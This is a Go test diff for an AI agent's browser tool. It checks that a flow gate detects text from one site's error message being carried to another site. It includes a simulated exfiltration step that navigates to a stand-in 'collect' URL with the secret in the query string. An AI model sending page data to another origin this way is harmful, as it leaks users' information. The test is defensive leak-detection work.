@@ -164,3 +164,24 @@ func benchPage(seed, n int) string {
 	}
 	return sb.String()
 }
+
+// TestFlowFromAnErrorsPageWords: page words an error shows the model (a
+// select's option labels) are read like a result's: carrying them to
+// another origin is a flow from the page that wrote them.
+func TestFlowFromAnErrorsPageWords(t *testing.T) {
+	t.Parallel()
+	const secret = "walnut-harbor-5120-violet"
+	g := &flowGate{}
+	h := newHarness(t, func(o *Options) { o.Gate = g })
+	h.call("navigate", map[string]any{"url": "https://a.test/settings"})
+	h.fake().Fail("SelectOption", executor.Errorf(executor.CodeBadArgs, "select_option: no option matches").
+		WithPage("the options it may stand for: "+secret))
+	if res := h.call("select_option", map[string]any{"selector": "#plan", "values": []any{"gold"}}); !res.IsError || !strings.Contains(textOf(res), secret) {
+		t.Fatalf("select_option: want the error with the page's options, got %s", textOf(res))
+	}
+	h.call("navigate", map[string]any{"url": "https://b.test/collect?q=" + secret})
+	q := g.last(t)
+	if len(q.Flow) != 1 || q.Flow[0].FromOrigin != "https://a.test" || q.Flow[0].ToOrigin != "https://b.test" || q.Flow[0].Via != "url" {
+		t.Fatalf("navigate to b.test with the error's words: the gate saw %+v, read origins %v", q.Flow, q.ReadOrigins)
+	}
+}
